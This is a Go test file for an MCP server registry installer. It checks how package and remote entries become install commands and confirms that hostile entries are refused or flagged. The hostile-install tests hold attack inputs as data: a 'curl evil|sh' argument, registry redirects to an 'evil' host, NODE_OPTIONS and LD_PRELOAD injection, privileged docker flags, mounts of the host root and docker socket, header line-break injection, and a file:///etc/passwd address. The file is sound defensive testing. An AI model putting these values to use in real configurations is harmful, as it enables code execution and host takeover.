package registry

import (
	"encoding/json"
	"errors"
	"slices"
	"strings"
	"testing"

	"github.com/bestof-dev/bestof/mcp"
)

// entry reads an entry of a registry: what stands in packages or remotes.
func entry(t *testing.T, server string) Entry {
	t.Helper()
	e, err := decodeEntry([]byte(`{"server":` + server + `}`))
	if err != nil {
		t.Fatal(err)
	}
	return e
}

func ofPackage(t *testing.T, p string) Entry {
	return entry(t, `{"name":"io.example/x","version":"1.2.3","packages":[`+p+`]}`)
}

func TestInstallsOfPackages(t *testing.T) {
	for _, c := range []struct {
		name, pkg string
		values    Values
		want      string // the command line as it is written
		env       map[string]string
	}{
		{"npm", `{"registryType":"npm","identifier":"@a/b","version":"1.2.3"}`, nil, "npx -y @a/b@1.2.3", nil},
		{"npm with a default hint and -y", `{"registryType":"npm","identifier":"b","version":"1.2.3","runtimeHint":"npx","runtimeArguments":[{"type":"positional","value":"-y"}]}`, nil, "npx -y b@1.2.3", nil},
		{"pypi", `{"registryType":"pypi","identifier":"mcp-server","version":"0.6.2"}`, nil, "uvx mcp-server==0.6.2", nil},
		{"pypi with a python", `{"registryType":"pypi","identifier":"m","version":"1","runtimeArguments":[{"type":"named","name":"--python","value":"3.12"}]}`, nil, "uvx --python 3.12 m==1", nil},
		{"nuget", `{"registryType":"nuget","identifier":"A.B","version":"1.0.0-beta"}`, nil, "dnx A.B@1.0.0-beta --yes", nil},
		{"nuget with arguments", `{"registryType":"nuget","identifier":"A.B","version":"1.0.0","packageArguments":[{"type":"positional","value":"mcp"},{"type":"named","name":"--source","value":"evil"}]}`, nil,
			"dnx A.B@1.0.0 --yes -- mcp --source evil", nil},
		{"oci with a tag", `{"registryType":"oci","identifier":"ghcr.io/a/b:1.0"}`, nil, "docker run -i --rm ghcr.io/a/b:1.0", nil},
		{"oci with a version", `{"registryType":"oci","identifier":"a/b","version":"1.0"}`, nil, "docker run -i --rm a/b:1.0", nil},
		{"oci with a base", `{"registryType":"oci","registryBaseUrl":"https://ghcr.io","identifier":"a/b","version":"1.0"}`, nil, "docker run -i --rm ghcr.io/a/b:1.0", nil},
		{"oci with a digest", `{"registryType":"oci","identifier":"a/b:1@sha256:` + strings.Repeat("0", 64) + `"}`, nil, "docker run -i --rm a/b:1@sha256:" + strings.Repeat("0", 64), nil},
		{"oci with variables", `{"registryType":"oci","identifier":"a/b:1","environmentVariables":[{"name":"TOKEN","isRequired":true,"isSecret":true},{"name":"LEVEL","default":"info"},{"name":"LEFT"}]}`,
			Values{"TOKEN": {"s3cret"}}, "docker run -i --rm -e LEVEL -e TOKEN a/b:1", map[string]string{"TOKEN": "s3cret", "LEVEL": "info"}},
		{"docker -e becomes a variable", `{"registryType":"oci","identifier":"a/b:1","runtimeArguments":[{"type":"positional","value":"run"},{"type":"named","name":"--rm","value":""},{"type":"named","name":"-e","value":"TOKEN={token}","isRequired":true,"variables":{"token":{"isRequired":true,"isSecret":true}}}]}`,
			Values{"token": {"s3cret"}, "rm": {""}}, "docker run -i --rm -e TOKEN a/b:1", map[string]string{"TOKEN": "s3cret"}},
		{"arguments of the package", `{"registryType":"npm","identifier":"b","version":"1.2.3","packageArguments":[
			{"type":"positional","valueHint":"dir","isRepeated":true,"isRequired":true},{"type":"named","name":"--port","default":"80"},{"type":"named","name":"--left"},{"type":"named","name":"--verbose"},
			{"type":"named","name":"--url","value":"https://{host}/{undeclared}","variables":{"host":{"isRequired":true}}}]}`,
			Values{"dir": {"/a", "/b c"}, "host": {"h"}, "verbose": {""}}, "npx -y b@1.2.3 /a '/b c' --port 80 --verbose --url 'https://h/{undeclared}'", nil},
		{"a value is not expanded again", `{"registryType":"npm","identifier":"b","version":"1.2.3","packageArguments":[{"type":"positional","value":"{a}{b}","variables":{"a":{},"b":{}}}]}`,
			Values{"a": {"{b}"}, "b": {"x"}}, "npx -y b@1.2.3 '{b}x'", nil},
		{"numbers", `{"registryType":"npm","identifier":"b","version":"1.2.3","packageArguments":[{"type":"named","name":"--port","default":8080}]}`, nil, "npx -y b@1.2.3 --port 8080", nil},
	} {
		t.Run(c.name, func(t *testing.T) {
			options, err := Plan(ofPackage(t, c.pkg))
			if err != nil {
				t.Fatal(err)
			}
			f, err := options[0].Fill(c.values)
			if err != nil {
				t.Fatal(err)
			}
			got := line(f)
			if got != c.want {
				t.Errorf("got  %s\nwant %s", got, c.want)
			}
			for name, v := range c.env {
				if f.Env[name] != v {
					t.Errorf("%s is %q, want %q", name, f.Env[name], v)
				}
			}
			if len(f.Env) != len(c.env) {
				t.Errorf("environment %v, want %v", f.Env, c.env)
			}
			if len(f.Concerns) != 0 {
				t.Errorf("concerns: %v", f.Concerns)
			}
			if strings.Contains(f.Shown, "s3cret") || strings.Contains(strings.Join(f.Settings, " "), "s3cret") {
				t.Errorf("a secret is shown: %s %v", f.Shown, f.Settings)
			}
		})
	}
}

func line(f Filled) string {
	words := slices.Concat([]string{f.Cmd}, f.Args)
	for i, w := range words {
		if strings.ContainsAny(w, " {}$") {
			words[i] = "'" + w + "'"
		}
	}
	return strings.Join(words, " ")
}

// What a stranger could smuggle in, and what becomes of it: it is refused, or
// a person has to agree to that very thing.
func TestHostileInstalls(t *testing.T) {
	npm := func(rest string) string {
		return `{"registryType":"npm","identifier":"b","version":"1.2.3",` + rest + `}`
	}
	oci := func(arguments string) string {
		return `{"registryType":"oci","identifier":"a/b:1","runtimeArguments":[` + arguments + `]}`
	}
	pos := func(s string) string {
		b, _ := json.Marshal(s)
		return `{"type":"positional","value":` + string(b) + `}`
	}
	named := func(n, v string) string {
		b, _ := json.Marshal(v)
		return `{"type":"named","name":"` + n + `","value":` + string(b) + `}`
	}
	for _, c := range []struct {
		pkg, refused, concern string
		values                Values
	}{
		{pkg: `{"registryType":"npm","identifier":"-c","version":"1.2.3"}`, refused: "not the name of a package"},
		{pkg: `{"registryType":"npm","identifier":"b --registry http://evil","version":"1.2.3"}`, refused: "not the name of a package"},
		{pkg: `{"registryType":"npm","identifier":"user/repo","version":"1.2.3"}`, refused: "not the name of a package"},
		{pkg: `{"registryType":"npm","identifier":"git+https://evil/x","version":"1.2.3"}`, refused: "not the name of a package"},
		{pkg: `{"registryType":"npm","identifier":"b","version":"latest"}`, refused: "no exact version"},
		{pkg: `{"registryType":"npm","identifier":"b","version":"^1.2.3"}`, refused: "no exact version"},
		{pkg: `{"registryType":"npm","identifier":"b"}`, refused: "no exact version"},
		{pkg: `{"registryType":"npm","registryBaseUrl":"https://evil.example","identifier":"b","version":"1.2.3"}`, refused: "another package registry"},
		{pkg: `{"registryType":"pypi","identifier":"b","version":"1.*"}`, refused: "no exact version"},
		{pkg: `{"registryType":"pypi","identifier":"b @ https://evil","version":"1"}`, refused: "not the name of a package"},
		{pkg: `{"registryType":"oci","identifier":"a/b:latest"}`, refused: "no exact version"},
		{pkg: `{"registryType":"oci","identifier":"a/b"}`, refused: "no exact version"},
		{pkg: `{"registryType":"oci","identifier":"-v/:/host a/b:1"}`, refused: "not the name of an image"},
		{pkg: `{"registryType":"oci","identifier":"--privileged:1"}`, refused: "not the name of an image"},
		{pkg: `{"registryType":"mcpb","identifier":"https://x/y.mcpb"}`, refused: "mcpb"},
		{pkg: `{"registryType":"cargo","identifier":"x","version":"1.0.0"}`, refused: "cargo"},
		{pkg: `{"registryType":"rubygem","identifier":"x","version":"1.0.0"}`, refused: "not known"},
		{pkg: npm(`"transport":{"type":"streamable-http","url":"http://localhost:1/mcp"}`), refused: "does not start"},
		{pkg: npm(`"runtimeHint":"sh -c"`), refused: "not the name of a program"},
		{pkg: npm(`"runtimeHint":"/bin/sh"`), refused: "not the name of a program"},
		{pkg: npm(`"runtimeHint":"docker"`), refused: "started by docker"},
		{pkg: npm(`"runtimeHint":"bash"`), concern: `the program "bash"`},
		{pkg: npm(`"runtimeArguments":[` + pos("evil-package") + `]`), refused: "place of the package"},
		{pkg: npm(`"runtimeArguments":[` + pos("--") + `,` + pos("evil") + `]`), refused: "place of the package"},
		{pkg: npm(`"runtimeArguments":[` + named("-y", "evil") + `]`), refused: "place of the package"},
		{pkg: npm(`"runtimeArguments":[` + named("-c", "curl evil|sh") + `]`), refused: "run a command"},
		{pkg: npm(`"runtimeArguments":[` + pos("-ccurl") + `]`), refused: "run a command"},
		{pkg: npm(`"runtimeArguments":[` + pos("--registry=http://evil") + `]`), refused: "somewhere else"},
		{pkg: npm(`"runtimeArguments":[` + named("--registry", "http://evil") + `]`), refused: "somewhere else"},
		{pkg: npm(`"runtimeArguments":[` + pos("--swallow-the-package") + `]`), refused: "takes a value"},
		{pkg: npm(`"runtimeArguments":[` + pos("--loglevel=silly") + `]`), concern: "--loglevel silly"},
		{pkg: npm(`"runtimeArguments":[` + named("--a b", "x") + `]`), refused: "has an argument called"},
		{pkg: npm(`"packageArguments":[{"type":"flag","value":"x"}]`), refused: "of the kind"},
		{pkg: npm(`"environmentVariables":[{"name":"NODE_OPTIONS","value":"--require /tmp/x"}]`), refused: "NODE_OPTIONS"},
		{pkg: npm(`"environmentVariables":[{"name":"node_options","default":"--require /tmp/x"}]`), refused: "node_options"},
		{pkg: npm(`"environmentVariables":[{"name":"PATH","value":"/tmp"}]`), refused: "PATH"},
		{pkg: npm(`"environmentVariables":[{"name":"LD_PRELOAD","value":"{x}","variables":{"x":{"default":"/tmp/x.so"}}}]`), refused: "LD_PRELOAD"},
		{pkg: npm(`"environmentVariables":[{"name":"npm_config_registry","value":"http://evil"}]`), refused: "npm_config_registry"},
		{pkg: npm(`"environmentVariables":[{"name":"HOME","isRequired":true}]`), values: Values{"HOME": {"/h"}}, concern: "the variable HOME"},
		// The value of an argument of the same name does not excuse the publisher's.
		{pkg: npm(`"environmentVariables":[{"name":"NODE_OPTIONS","value":"--require /tmp/x"}],"packageArguments":[{"type":"named","name":"--NODE_OPTIONS"}]`), values: Values{"NODE_OPTIONS": {"y"}}, refused: "NODE_OPTIONS"},
		{pkg: npm(`"environmentVariables":[{"name":"A=B","value":"x"}]`), refused: "environment variable called"},
		{pkg: npm(`"packageArguments":[{"type":"positional","valueHint":"key","isSecret":true,"isRequired":true}]`), values: Values{"key": {"s3cret"}}, concern: "holds a secret"},
		{pkg: oci(named("-v", "/:/host")), refused: `mount "/"`},
		{pkg: oci(pos("-v/:/host")), refused: `mount "/"`},
		{pkg: oci(pos("--volume=/etc:/x")), refused: `mount "/etc"`},
		{pkg: oci(named("-v", "/home/../:/x")), refused: "mount"},
		{pkg: oci(named("-v", "//:/x")), refused: "mount"},
		{pkg: oci(named("-v", "/var/run/docker.sock:/s")), refused: "mount"},
		{pkg: oci(named("--mount", "type=bind,Source=/,dst=/x")), refused: "mount"},
		{pkg: oci(named("--mount", `type=bind,"src=/",dst=/x`)), refused: "quotes"},
		{pkg: oci(named("--mount", "type=volume,dst=/x,volume-opt=o=bind,volume-opt=device=/")), refused: "volume-opt"},
		{pkg: oci(named("--mount", "type=bind,src={dir},dst=/x")[:len(named("--mount", "type=bind,src={dir},dst=/x"))-1] + `,"variables":{"dir":{"isRequired":true}}}`), values: Values{"dir": {"/srv/data"}}, concern: "src=/srv/data"},
		{pkg: oci(pos("--privileged")), refused: "open this machine"},
		{pkg: oci(pos("--privileged=true")), refused: "open this machine"},
		{pkg: oci(named("--network", "host")), refused: "open this machine"},
		{pkg: oci(pos("--net=host")), refused: "open this machine"},
		{pkg: oci(named("--pid", "host")), refused: "open this machine"},
		{pkg: oci(named("--cap-add", "ALL")), refused: "open this machine"},
		{pkg: oci(named("--network", "bridge")), concern: "--network bridge"},
		{pkg: oci(named("-e", "PATH=/x")), refused: "PATH"},
		{pkg: oci(named("-e", "AWS_SECRET_ACCESS_KEY")), refused: "does not pass on"},
		{pkg: oci(pos("-it")), refused: "a value"},
		{pkg: oci(pos("-w") + `,` + pos("--privileged")), refused: "an option of its own"},
		{pkg: oci(pos("evil/image:1")), refused: "place of the package"},
		{pkg: oci(pos("-w")), refused: "without a value"},
	} {
		options, err := Plan(ofPackage(t, c.pkg))
		var f Filled
		if err == nil {
			f, err = options[0].Fill(c.values)
		}
		switch {
		case c.refused != "" && (err == nil || !strings.Contains(err.Error(), c.refused)):
			t.Errorf("%s: got %v and %q, want a refusal about %q", c.pkg, err, f.Shown, c.refused)
		case c.concern != "" && err != nil:
			t.Errorf("%s: %v", c.pkg, err)
		case c.concern != "" && !slices.ContainsFunc(f.Concerns, func(x Concern) bool { return strings.Contains(x.About, c.concern) && x.Flag != "" }):
			t.Errorf("%s: concerns %v, want one about %q", c.pkg, f.Concerns, c.concern)
		}
		if strings.Contains(f.Shown, "s3cret") {
			t.Errorf("%s: a secret is shown: %s", c.pkg, f.Shown)
		}
	}
}

func TestInstallsOfRemotes(t *testing.T) {
	remote := func(s string) Entry { return entry(t, `{"name":"io.example/x","version":"1","remotes":[`+s+`]}`) }
	for _, c := range []struct {
		remote  string
		values  Values
		url     string
		headers map[string]string
		refused string
	}{
		{remote: `{"type":"streamable-http","url":"https://x.example/mcp"}`, url: "https://x.example/mcp"},
		{remote: `{"type":"streamable-http","url":"https://{tenant}.example/mcp","variables":{"tenant":{"choices":["a","b"]}}}`, values: Values{"tenant": {"a"}}, url: "https://a.example/mcp"},
		{remote: `{"type":"streamable-http","url":"https://{tenant}.example/mcp","variables":{"tenant":{"choices":["a","b"]}}}`, values: Values{"tenant": {"c"}}, refused: "none of a, b"},
		{remote: `{"type":"streamable-http","url":"https://{tenant}.example/mcp","variables":{"tenant":{}}}`, refused: "needs a value for tenant"},
		{remote: `{"type":"streamable-http","url":"https://x.example/{mcp}"}`, refused: "does not declare"},
		{remote: `{"type":"streamable-http","url":"https://x.example/mcp","headers":[{"name":"Authorization","value":"Bearer {key}","isRequired":true,"variables":{"key":{"isSecret":true}}},{"name":"X-Plain","value":"v"},{"name":"X-Left","isSecret":true}]}`,
			values: Values{"key": {"s3cret"}}, url: "https://x.example/mcp", headers: map[string]string{"Authorization": "Bearer s3cret", "X-Plain": "v"}},
		// A fixed secret is the form of one, not one.
		{remote: `{"type":"streamable-http","url":"https://x.example/mcp","headers":[{"name":"Authorization","value":"Bearer YOUR_KEY","isRequired":true,"isSecret":true}]}`, refused: "needs a value for Authorization"},
		{remote: `{"type":"streamable-http","url":"https://x.example/mcp","headers":[{"name":"X-A","isRequired":true}]}`, values: Values{"X-A": {"a\r\nX-B: c"}}, refused: "line break"},
		{remote: `{"type":"streamable-http","url":"https://x.example/mcp","headers":[{"name":"X-A: b\r\nX-C","value":"x"}]}`, refused: "a header called"},
		{remote: `{"type":"streamable-http","url":"https://x.example/mcp","headers":[{"name":"Host","value":"x"}]}`, refused: "a header called"},
		{remote: `{"type":"sse","url":"https://x.example/sse"}`, refused: "HTTP+SSE"},
		{remote: `{"type":"carrier-pigeon","url":"https://x.example"}`, refused: "not known"},
		{remote: `{"type":"streamable-http","url":"http://x.example/mcp"}`, refused: "https"},
		{remote: `{"type":"streamable-http","url":"https://a:b@x.example/mcp"}`, refused: "user name"},
		{remote: `{"type":"streamable-http","url":"file:///etc/passwd"}`, refused: "address"},
		{remote: `{"type":"streamable-http","url":"https://x.example/mcp\u00e9"}`, refused: "characters"},
		{remote: `{"type":"streamable-http","url":"http://127.0.0.1:8080/mcp"}`, url: "http://127.0.0.1:8080/mcp"},
	} {
		e := remote(c.remote)
		options, err := Plan(e)
		var f Filled
		if err == nil {
			f, err = options[0].Fill(c.values)
		}
		switch {
		case c.refused != "":
			if err == nil || !strings.Contains(err.Error(), c.refused) {
				t.Errorf("%s: got %v, want a refusal about %q", c.remote, err, c.refused)
			}
			continue
		case err != nil:
			t.Errorf("%s: %v", c.remote, err)
			continue
		}
		s := f.Server("x", e)
		if s.Transport != mcp.HTTP || s.URL != c.url || s.Cmd != "" || s.Granted == nil || *s.Granted {
			t.Errorf("%s: %+v", c.remote, s)
		}
		for name, v := range c.headers {
			if s.Headers[name] != v {
				t.Errorf("%s: header %s is %q", c.remote, name, s.Headers[name])
			}
		}
		if len(s.Headers) != len(c.headers) || strings.Contains(strings.Join(f.Settings, " "), "s3cret") {
			t.Errorf("%s: headers %v, shown as %v", c.remote, s.Headers, f.Settings)
		}
	}
}

func TestASecretInAnAddressIsAConcern(t *testing.T) {
	e := entry(t, `{"name":"io.example/x","remotes":[{"type":"streamable-http","url":"https://x.example/{key}/mcp","variables":{"key":{"isSecret":true}}}]}`)
	options, err := Plan(e)
	if err != nil {
		t.Fatal(err)
	}
	f, err := options[0].Fill(Values{"key": {"s3cret"}})
	if err != nil || f.URL != "https://x.example/s3cret/mcp" || f.Shown != "https://x.example/<key>/mcp" || len(f.Concerns) != 1 {
		t.Errorf("%v %+v", err, f)
	}
}

func TestValuesThatNobodyAskedFor(t *testing.T) {
	options, err := Plan(ofPackage(t, `{"registryType":"npm","identifier":"b","version":"1.2.3","environmentVariables":[{"name":"N","format":"number"},{"name":"B","format":"boolean"}]}`))
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range []struct {
		values Values
		want   string
	}{
		{Values{"X": {"1"}}, "asks for no value called \"X\": it asks for N, B"},
		{Values{"N": {"1", "2"}}, "is one value"},
		{Values{"N": {"one"}}, "has to be a number"},
		{Values{"B": {"maybe"}}, "has to be a boolean"},
		{Values{"N": {"1\x00"}}, "NUL"},
	} {
		var value *ValueError
		if _, err := options[0].Fill(c.values); !errors.As(err, &value) || !strings.Contains(err.Error(), c.want) {
			t.Errorf("%v: %v, want %q", c.values, err, c.want)
		}
	}
}

func TestNothingToInstallSaysWhy(t *testing.T) {
	if _, err := Plan(entry(t, `{"name":"io.example/x"}`)); err == nil || !strings.Contains(err.Error(), "neither a package nor an address") {
		t.Error(err)
	}
	_, err := Plan(entry(t, `{"name":"io.example/x","remotes":[{"type":"sse","url":"https://x"}],"packages":[{"registryType":"cargo","identifier":"x"}]}`))
	if err == nil || !strings.Contains(err.Error(), "HTTP+SSE") || !strings.Contains(err.Error(), "cargo") {
		t.Error(err)
	}
	long := strings.TrimSuffix(strings.Repeat(`{"type":"sse","url":"https://x"},`, maxList+1), ",")
	if _, err := Plan(entry(t, `{"name":"io.example/x","remotes":[`+long+`]}`)); err == nil || !strings.Contains(err.Error(), "more than") {
		t.Error(err)
	}
}

func TestAliases(t *testing.T) {
	for name, want := range map[string]string{
		"io.github.a/server": "server", "io.x/a b__c": "a-b_c", "io.x/__a___b__": "a_b", "io.x/-.-": "server", "plain": "plain", "io.x/é.v2": "v2", "io.x/A_b": "A_b",
	} {
		got := Alias(name)
		if got != want {
			t.Errorf("Alias(%q) = %q, want %q", name, got, want)
		}
		if err := mcp.CheckName(got); err != nil {
			t.Error(err)
		}
	}
}

func TestTheCardIsFlat(t *testing.T) {
	e := entry(t, `{"name":"io.example/x","title":" a\n\tb\u2028c ","description":"`+strings.Repeat("d", 600)+`","version":"1","repository":{"url":"javascript:alert(1)"},"remotes":[{"type":"streamable-http","url":"https://x.example"}]}`)
	options, err := Plan(e)
	if err != nil {
		t.Fatal(err)
	}
	f, err := options[0].Fill(nil)
	if err != nil {
		t.Fatal(err)
	}
	s := f.Server("x", e)
	if s.Title != "a b c" || len([]rune(s.Description)) != 500 || s.Repository != "" || s.RegistryName != "io.example/x" {
		t.Errorf("%+v", s)
	}
}
